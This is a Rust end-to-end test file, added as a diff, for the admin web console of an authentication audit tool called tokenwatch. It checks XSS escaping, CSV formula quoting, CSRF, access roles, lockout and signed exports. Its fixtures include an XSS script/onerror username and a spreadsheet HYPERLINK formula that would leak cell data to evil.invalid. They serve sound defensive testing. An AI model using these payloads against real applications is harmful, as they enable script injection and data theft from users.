@@ -1,0 +1,590 @@
+//! The admin web UI end to end: a real `tokenwatch serve`, real traffic that
+//! makes the built-in detectors raise an alert, and a real headless Chromium
+//! (Debian's `chromium`) driven over the DevTools protocol.
+//!
+//! Set `TOKENWATCH_SCREENSHOT=docs/dashboard.png` to save the dashboard
+//! screenshot the browser test takes (scripts/screenshot.sh does).
+
+use std::collections::HashMap;
+use std::ffi::OsStr;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use audit_store::{AlertFilter, AlertStatus, AuditReader, EventFilter, Outcome, StoredEvent};
+use headless_chrome::protocol::cdp::Page::CaptureScreenshotFormatOption;
+use headless_chrome::{Browser, LaunchOptions, Tab};
+use tokenwatch_e2e::{cli, data_dir, http, Server};
+
+const ADMIN_PW: &str = "admin-password-for-the-ui-test";
+const ANALYST_PW: &str = "analyst-password-for-the-ui-test";
+/// Attacker-chosen text that the console must show and export harmlessly.
+const EVIL_USER: &str = "<script>window.__xss=1</script><img src=x onerror=\"window.__xss=2\">";
+const EVIL_UA: &str = "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"click me\")";
+
+fn reader(s: &Server) -> AuditReader {
+    AuditReader::open(&s.data_dir.join("audit.db")).expect("open the audit store read-only")
+}
+
+fn wait_for<T>(what: &str, mut probe: impl FnMut() -> Option<T>) -> T {
+    let deadline = Instant::now() + Duration::from_secs(60);
+    loop {
+        if let Some(v) = probe() {
+            return v;
+        }
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// A server whose console users are `admin` and `analyst` with known passwords.
+fn server_with_users() -> (tempfile::TempDir, Server) {
+    let (tmp, dir) = data_dir();
+    for (name, role, pw) in [("admin", "admin", ADMIN_PW), ("analyst", "analyst", ANALYST_PW)] {
+        let out = cli(&dir, &["users", "add", name, "--role", role, "--password-stdin"], pw);
+        assert_eq!(out.status, 0, "users add {name}: {}", out.stderr);
+    }
+    let s = Server::start(&dir);
+    (tmp, s)
+}
+
+/// Failed OAuth logins for `user` with a hostile user agent: enough for a
+/// brute-force alert from the built-in detector.
+fn attack(s: &Server, user: &str, n: usize) {
+    let client = reqwest::blocking::Client::builder()
+        .user_agent(EVIL_UA)
+        .build()
+        .unwrap();
+    for _ in 0..n {
+        let r = client
+            .post(s.url("/oauth/token"))
+            .form(&[
+                ("grant_type", "password"),
+                ("username", user),
+                ("password", "not-the-password"),
+            ])
+            .send()
+            .unwrap();
+        assert_eq!(r.status(), 400);
+    }
+    // Some successes too, so both lines of the chart have data.
+    for _ in 0..3 {
+        let r = http()
+            .post(s.url("/oauth/token"))
+            .form(&[("grant_type", "password"), ("username", "admin"), ("password", ADMIN_PW)])
+            .send()
+            .unwrap();
+        assert!(r.status().is_success());
+    }
+}
+
+fn all_events(r: &AuditReader, f: &EventFilter) -> Vec<StoredEvent> {
+    let mut out = Vec::new();
+    let mut after = None;
+    loop {
+        let p = r.query_events(f, after, 1000).unwrap();
+        out.extend(p.items);
+        match p.next {
+            Some(c) => after = Some(c),
+            None => return out,
+        }
+    }
+}
+
+fn browser() -> (tempfile::TempDir, Browser) {
+    let profile = tempfile::tempdir().unwrap();
+    let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
+        .iter()
+        .map(PathBuf::from)
+        .find(|p| p.exists())
+        .expect("Debian's chromium package is needed (.ci/run installs it)");
+    let opts = LaunchOptions::default_builder()
+        .path(Some(chromium))
+        .headless(true)
+        .sandbox(false)
+        .user_data_dir(Some(profile.path().to_path_buf()))
+        .window_size(Some((1400, 1100)))
+        .idle_browser_timeout(Duration::from_secs(180))
+        .args(
+            [
+                "--disable-gpu",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--disable-sync",
+                "--no-first-run",
+            ]
+            .iter()
+            .map(OsStr::new)
+            .collect(),
+        )
+        .build()
+        .unwrap();
+    (profile, Browser::new(opts).expect("launching headless chromium"))
+}
+
+fn js(tab: &Tab, expr: &str) -> serde_json::Value {
+    let r = tab.evaluate(expr, true).expect(expr);
+    r.value.unwrap_or(serde_json::Value::Null)
+}
+
+/// Evaluates `expr` (which must produce a JSON string) and parses it.
+fn js_json(tab: &Tab, expr: &str) -> serde_json::Value {
+    let v = js(tab, expr);
+    serde_json::from_str(v.as_str().unwrap_or("null")).expect("JSON from the page")
+}
+
+fn type_into(tab: &Tab, selector: &str, text: &str) {
+    tab.wait_for_element(selector).unwrap().click().unwrap();
+    tab.type_str(text).unwrap();
+}
+
+fn click_and_wait(tab: &Tab, selector: &str) {
+    tab.wait_for_element(selector).unwrap().click().unwrap();
+    tab.wait_until_navigated().unwrap();
+}
+
+fn csv_rows(text: &str) -> Vec<HashMap<String, String>> {
+    let mut rdr = csv::Reader::from_reader(text.as_bytes());
+    let headers = rdr.headers().unwrap().clone();
+    rdr.records()
+        .map(|r| {
+            let r = r.unwrap();
+            headers
+                .iter()
+                .zip(r.iter())
+                .map(|(h, v)| (h.to_string(), v.to_string()))
+                .collect()
+        })
+        .collect()
+}
+
+#[test]
+fn console_in_a_real_browser() {
+    let (_tmp, s) = server_with_users();
+    attack(&s, EVIL_USER, 14);
+    let r = reader(&s);
+    let alert = wait_for("a brute-force alert", || {
+        r.list_alerts(&AlertFilter::default(), None, 100)
+            .unwrap()
+            .items
+            .into_iter()
+            .find(|a| a.detector == "brute-force")
+    });
+
+    let (_profile, browser) = browser();
+    let tab = browser.new_tab().unwrap();
+    tab.set_default_timeout(Duration::from_secs(30));
+
+    // Log in.
+    tab.navigate_to(&s.url("/admin/")).unwrap();
+    tab.wait_until_navigated().unwrap();
+    type_into(&tab, "#username", "admin");
+    type_into(&tab, "#password", ADMIN_PW);
+    click_and_wait(&tab, "#login-submit");
+    assert!(tab.get_url().ends_with("/admin/dashboard"), "{}", tab.get_url());
+    assert_eq!(
+        js(&tab, "document.getElementById('whoami').textContent"),
+        "admin (admin)"
+    );
+    // The session cookie is not readable from script.
+    assert_eq!(js(&tab, "document.cookie"), "");
+
+    // The dashboard's charts are drawn, and their numbers agree with the store.
+    wait_for("charts drawn", || {
+        let v = js(&tab, "document.getElementById('charts').getAttribute('data-ready')");
+        (v == "true").then_some(())
+    });
+    let inked = js_json(
+        &tab,
+        "JSON.stringify(Array.from(document.querySelectorAll('#charts canvas')).map(function (c) {
+            var d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data, n = 0;
+            for (var i = 3; i < d.length; i += 4) { if (d[i]) { n++; } }
+            return [c.id, c.width, n];
+        }))",
+    );
+    let inked = inked.as_array().unwrap();
+    assert_eq!(inked.len(), 5, "{inked:?}");
+    for c in inked {
+        assert!(c[1].as_u64().unwrap() > 100, "canvas too small: {c:?}");
+        assert!(c[2].as_u64().unwrap() > 500, "canvas not drawn: {c:?}");
+    }
+    let d = js_json(&tab, "JSON.stringify(window.twDashboard)");
+    let (from_us, to_us) = (d["from_us"].as_i64().unwrap(), d["to_us"].as_i64().unwrap());
+    let in_range = all_events(
+        &r,
+        &EventFilter {
+            from_us: Some(from_us),
+            to_us: Some(to_us),
+            ..Default::default()
+        },
+    );
+    let failures = in_range.iter().filter(|e| e.outcome == Outcome::Failure).count() as u64;
+    let successes = in_range.len() as u64 - failures;
+    assert_eq!(d["totals"]["failure"].as_u64(), Some(failures), "{d}");
+    assert_eq!(d["totals"]["success"].as_u64(), Some(successes), "{d}");
+    assert_eq!(
+        js(&tab, "document.getElementById('total-failure').textContent"),
+        failures.to_string()
+    );
+    let evil_failures = in_range
+        .iter()
+        .filter(|e| e.outcome == Outcome::Failure && e.username.as_deref() == Some(EVIL_USER))
+        .count() as u64;
+    assert_eq!(evil_failures, 14);
+    assert!(
+        d["top_users"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|u| u[0] == EVIL_USER && u[1].as_u64() == Some(evil_failures)),
+        "{d}"
+    );
+    assert!(d["open_alerts"].as_array().unwrap().iter().any(|a| a[1].as_u64() >= Some(1)), "{d}");
+    if let Ok(path) = std::env::var("TOKENWATCH_SCREENSHOT") {
+        let png = tab
+            .capture_screenshot(CaptureScreenshotFormatOption::Png, None, None, true)
+            .unwrap();
+        std::fs::write(&path, png).unwrap();
+    }
+
+    // The event explorer: filter by the hostile username.
+    tab.navigate_to(&s.url("/admin/events")).unwrap();
+    tab.wait_until_navigated().unwrap();
+    type_into(&tab, "#filter-user", EVIL_USER);
+    click_and_wait(&tab, "#filter-submit");
+    let shown = js_json(
+        &tab,
+        "JSON.stringify(Array.from(document.querySelectorAll('#events tbody tr')).map(function (tr) {
+            return [tr.querySelector('td.user').textContent, tr.querySelector('td.ua').textContent];
+        }))",
+    );
+    let shown = shown.as_array().unwrap();
+    assert_eq!(shown.len(), 14, "{shown:?}");
+    for row in shown {
+        assert_eq!(row[0], EVIL_USER);
+        assert_eq!(row[1], EVIL_UA);
+    }
+    // Shown as text: no element was injected and no script ran.
+    assert_eq!(js(&tab, "document.querySelectorAll('img').length"), 0);
+    assert_eq!(js(&tab, "document.scripts.length"), 2);
+    assert_eq!(js(&tab, "typeof window.__xss"), "undefined");
+
+    // One event's detail, with its neighbours.
+    let first = js(&tab, "document.querySelector('#events tbody a').getAttribute('href')");
+    tab.navigate_to(&s.url(first.as_str().unwrap())).unwrap();
+    tab.wait_until_navigated().unwrap();
+    let detail = js(&tab, "document.getElementById('event-detail').textContent");
+    assert!(detail.as_str().unwrap().contains(EVIL_UA));
+    assert_eq!(js(&tab, "document.querySelectorAll('tr.current').length"), 2);
+    assert_eq!(js(&tab, "typeof window.__xss"), "undefined");
+
+    // Acknowledge the alert.
+    tab.navigate_to(&s.url("/admin/alerts?status=open")).unwrap();
+    tab.wait_until_navigated().unwrap();
+    click_and_wait(&tab, &format!("a[href='/admin/alerts/{}']", alert.id));
+    type_into(&tab, "#alert-actions input[name=note]", "seen, looking into it");
+    click_and_wait(&tab, "#ack");
+    assert_eq!(
+        js(&tab, "document.getElementById('alert-status').textContent"),
+        "acknowledged"
+    );
+    let stored = r.get_alert(alert.id).unwrap().unwrap();
+    assert_eq!(stored.status, AlertStatus::Acknowledged);
+    assert_eq!(stored.status_by.as_deref(), Some("admin"));
+    assert_eq!(stored.status_note.as_deref(), Some("seen, looking into it"));
+
+    // Download the events report for the hostile user, as the page's form asks for it.
+    let reports = format!("/admin/reports?{}", query_pair("user", EVIL_USER));
+    tab.navigate_to(&s.url(&reports)).unwrap();
+    tab.wait_until_navigated().unwrap();
+    let got = js_json(
+        &tab,
+        "(async function () {
+            var f = document.getElementById('report-form');
+            var url = f.getAttribute('action') + '?' + new URLSearchParams(new FormData(f)).toString();
+            var r = await fetch(url, { credentials: 'same-origin' });
+            var csv = await r.text();
+            var m = await fetch(document.getElementById('manifest-link').getAttribute('href'));
+            return JSON.stringify({ status: r.status, type: r.headers.get('content-type'),
+                disposition: r.headers.get('content-disposition'), csv: csv,
+                manifest_status: m.status, manifest: await m.text() });
+        })()",
+    );
+    assert_eq!(got["status"], 200, "{got}");
+    assert!(got["disposition"].as_str().unwrap().starts_with("attachment"));
+    let csv_text = got["csv"].as_str().unwrap();
+    let rows = csv_rows(csv_text);
+    assert_eq!(rows.len(), 14);
+    for row in &rows {
+        // Same text, and the formula is quoted so no spreadsheet evaluates it.
+        assert_eq!(row["username"], EVIL_USER);
+        assert_eq!(row["user_agent"], format!("'{EVIL_UA}"));
+    }
+    let ids: Vec<i64> = rows.iter().map(|r| r["id"].parse().unwrap()).collect();
+    let mut expected: Vec<i64> = all_events(
+        &r,
+        &EventFilter {
+            subject_or_username: Some(EVIL_USER.into()),
+            ..Default::default()
+        },
+    )
+    .iter()
+    .map(|e| e.id)
+    .collect();
+    expected.sort();
+    assert_eq!(ids, expected);
+
+    // The signed manifest checks out offline, and a edited file does not.
+    assert_eq!(got["manifest_status"], 200, "{got}");
+    let work = tempfile::tempdir().unwrap();
+    let csv_path = work.path().join("report.csv");
+    let manifest_path = work.path().join("report.manifest.jws");
+    std::fs::write(&csv_path, csv_text).unwrap();
+    std::fs::write(&manifest_path, got["manifest"].as_str().unwrap()).unwrap();
+    let ok = verify_export(&s.data_dir, &csv_path, &manifest_path);
+    assert_eq!(ok.status, 0, "{} {}", ok.stdout, ok.stderr);
+    assert!(ok.stdout.contains("14 rows"), "{}", ok.stdout);
+    std::fs::write(&csv_path, csv_text.replacen("auth.login.failure", "auth.login.success", 1))
+        .unwrap();
+    let bad = verify_export(&s.data_dir, &csv_path, &manifest_path);
+    assert_ne!(bad.status, 0, "an edited report must not verify");
+
+    // Every console login and action was audited.
+    let kinds: Vec<String> = all_events(&r, &EventFilter::default())
+        .into_iter()
+        .filter(|e| e.kind.starts_with("admin.") && e.username.as_deref() == Some("admin"))
+        .map(|e| e.kind)
+        .collect();
+    for k in ["admin.login", "admin.action", "admin.export"] {
+        assert!(kinds.iter().any(|x| x == k), "{k} missing in {kinds:?}");
+    }
+}
+
+fn query_pair(k: &str, v: &str) -> String {
+    reqwest::Url::parse_with_params("http://x/", &[(k, v)])
+        .unwrap()
+        .query()
+        .unwrap_or_default()
+        .to_string()
+}
+
+fn verify_export(data: &Path, csv: &Path, manifest: &Path) -> tokenwatch_e2e::CliOutput {
+    cli(
+        data,
+        &[
+            "audit",
+            "verify-export",
+            csv.to_str().unwrap(),
+            manifest.to_str().unwrap(),
+        ],
+        "",
+    )
+}
+
+// ------------------------------------------------------------ HTTP level
+
+/// A console client without a browser: keeps the two console cookies by hand.
+struct Console<'a> {
+    s: &'a Server,
+    client: reqwest::blocking::Client,
+    cookies: HashMap<String, String>,
+    csrf: String,
+}
+
+impl<'a> Console<'a> {
+    fn new(s: &'a Server) -> Self {
+        Console {
+            s,
+            client: reqwest::blocking::Client::builder()
+                .redirect(reqwest::redirect::Policy::none())
+                .build()
+                .unwrap(),
+            cookies: HashMap::new(),
+            csrf: String::new(),
+        }
+    }
+
+    fn keep_cookies(&mut self, resp: &reqwest::blocking::Response) {
+        for v in resp.headers().get_all("set-cookie") {
+            let v = v.to_str().unwrap();
+            let (pair, _) = v.split_once(';').unwrap_or((v, ""));
+            let (k, val) = pair.split_once('=').unwrap();
+            self.cookies.insert(k.to_string(), val.to_string());
+        }
+    }
+
+    fn cookie_header(&self) -> String {
+        self.cookies
+            .iter()
+            .filter(|(_, v)| !v.is_empty())
+            .map(|(k, v)| format!("{k}={v}"))
+            .collect::<Vec<_>>()
+            .join("; ")
+    }
+
+    fn get(&mut self, path: &str) -> reqwest::blocking::Response {
+        let r = self
+            .client
+            .get(self.s.url(path))
+            .header("cookie", self.cookie_header())
+            .send()
+            .unwrap();
+        self.keep_cookies(&r);
+        r
+    }
+
+    fn post(&mut self, path: &str, form: &[(&str, &str)]) -> reqwest::blocking::Response {
+        let r = self
+            .client
+            .post(self.s.url(path))
+            .header("cookie", self.cookie_header())
+            .form(form)
+            .send()
+            .unwrap();
+        self.keep_cookies(&r);
+        r
+    }
+
+    fn csrf_of(html: &str) -> String {
+        let at = html.find("name=\"csrf\" value=\"").expect("csrf field") + 19;
+        html[at..].split('"').next().unwrap().to_string()
+    }
+
+    fn login(&mut self, user: &str, pw: &str) -> reqwest::blocking::Response {
+        let page = self.get("/admin/login").text().unwrap();
+        let token = Self::csrf_of(&page);
+        let r = self.post(
+            "/admin/login",
+            &[("username", user), ("password", pw), ("csrf", &token)],
+        );
+        if r.status() == 303 {
+            let dash = self.get("/admin/dashboard").text().unwrap();
+            self.csrf = Self::csrf_of(&dash);
+        }
+        r
+    }
+}
+
+#[test]
+fn console_security_over_http() {
+    let (_tmp, s) = server_with_users();
+    attack(&s, "victim", 12);
+    let r = reader(&s);
+    let alert = wait_for("a brute-force alert", || {
+        r.list_alerts(&AlertFilter::default(), None, 100)
+            .unwrap()
+            .items
+            .into_iter()
+            .find(|a| a.detector == "brute-force")
+    });
+
+    // Security headers, and its own CSP, on every console page.
+    let mut anon = Console::new(&s);
+    let login = anon.get("/admin/login");
+    assert_eq!(login.status(), 200);
+    let h = login.headers();
+    let csp = h["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"), "{csp}");
+    assert!(!csp.contains("unsafe-inline"), "{csp}");
+    assert_eq!(h["x-content-type-options"], "nosniff");
+    assert_eq!(h["x-frame-options"], "DENY");
+    assert_eq!(h["referrer-policy"], "no-referrer");
+    // The API keeps its stricter one.
+    let api = http().get(s.url("/healthz")).send().unwrap();
+    assert!(api.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .starts_with("default-src 'none'"));
+
+    // Pages need a session.
+    let r303 = anon.get("/admin/events");
+    assert_eq!(r303.status(), 303);
+    assert_eq!(r303.headers()["location"], "/admin/login");
+    assert_eq!(anon.get("/admin/api/dashboard").status(), 303);
+
+    // A login without the login CSRF token is refused.
+    let forged = anon.post(
+        "/admin/login",
+        &[("username", "admin"), ("password", ADMIN_PW), ("csrf", "forged")],
+    );
+    assert_eq!(forged.status(), 403);
+
+    // Analyst: logs in with an HttpOnly, SameSite=Strict session cookie...
+    let mut analyst = Console::new(&s);
+    let resp = analyst.login("analyst", ANALYST_PW);
+    assert_eq!(resp.status(), 303);
+    let set = resp
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .map(|v| v.to_str().unwrap().to_string())
+        .find(|c| c.starts_with("tw_session="))
+        .expect("session cookie");
+    assert!(set.contains("HttpOnly") && set.contains("SameSite=Strict"), "{set}");
+    assert_eq!(analyst.get("/admin/plugins").status(), 200);
+
+    // ...cannot disable a plugin, even with a valid CSRF token (checked on the server)...
+    let csrf = analyst.csrf.clone();
+    let denied = analyst.post("/admin/plugins/brute-force/disable", &[("csrf", &csrf)]);
+    assert_eq!(denied.status(), 403);
+    let page = analyst.get("/admin/plugins").text().unwrap();
+    assert!(page.contains("plugin-running"), "the plugin must still run");
+
+    // ...but can acknowledge an alert, only with the CSRF token.
+    let path = format!("/admin/alerts/{}/status", alert.id);
+    let no_token = analyst.post(&path, &[("action", "close")]);
+    assert_eq!(no_token.status(), 403);
+    let wrong = analyst.post(&path, &[("action", "close"), ("csrf", "nope")]);
+    assert_eq!(wrong.status(), 403);
+    assert_eq!(r.get_alert(alert.id).unwrap().unwrap().status, AlertStatus::Open);
+    let ok = analyst.post(&path, &[("action", "suppress"), ("csrf", &csrf)]);
+    assert_eq!(ok.status(), 303);
+    let a = r.get_alert(alert.id).unwrap().unwrap();
+    assert_eq!(a.status, AlertStatus::Suppressed);
+    assert_eq!(a.status_by.as_deref(), Some("analyst"));
+
+    // An admin may reload a plugin.
+    let mut admin = Console::new(&s);
+    assert_eq!(admin.login("admin", ADMIN_PW).status(), 303);
+    let csrf = admin.csrf.clone();
+    assert_eq!(admin.post("/admin/plugins/brute-force/reload", &[("csrf", &csrf)]).status(), 303);
+
+    // Logout ends the session.
+    let csrf = analyst.csrf.clone();
+    assert_eq!(analyst.post("/admin/logout", &[("csrf", &csrf)]).status(), 303);
+    assert_eq!(analyst.get("/admin/events").status(), 303);
+
+    // Repeated failures lock the account out, even for the right password.
+    let mut guesser = Console::new(&s);
+    for _ in 0..5 {
+        assert_eq!(guesser.login("analyst", "wrong-password-guess").status(), 401);
+    }
+    assert_eq!(guesser.login("analyst", ANALYST_PW).status(), 429);
+
+    // The refusals are audit events.
+    let evs = all_events(&r, &EventFilter::default());
+    let reasons: Vec<(&str, &str)> = evs
+        .iter()
+        .filter(|e| e.kind.starts_with("admin."))
+        .map(|e| (e.kind.as_str(), e.reason.as_deref().unwrap_or("")))
+        .collect();
+    for want in [
+        ("admin.login", "csrf"),
+        ("admin.action", "forbidden"),
+        ("admin.action", "csrf"),
+        ("admin.login", "bad_credentials"),
+        ("admin.login", "locked_out"),
+    ] {
+        assert!(reasons.contains(&want), "{want:?} missing in {reasons:?}");
+    }
+    // No password reached the audit trail.
+    s.stop();
+    for (path, bytes) in tokenwatch_e2e::all_file_bytes(&_tmp.path().join("data")) {
+        for pw in [ADMIN_PW, ANALYST_PW] {
+            assert!(
+                !tokenwatch_e2e::contains(&bytes, pw.as_bytes()),
+                "password found in {}",
+                path.display()
+            );
+        }
+    }
+}
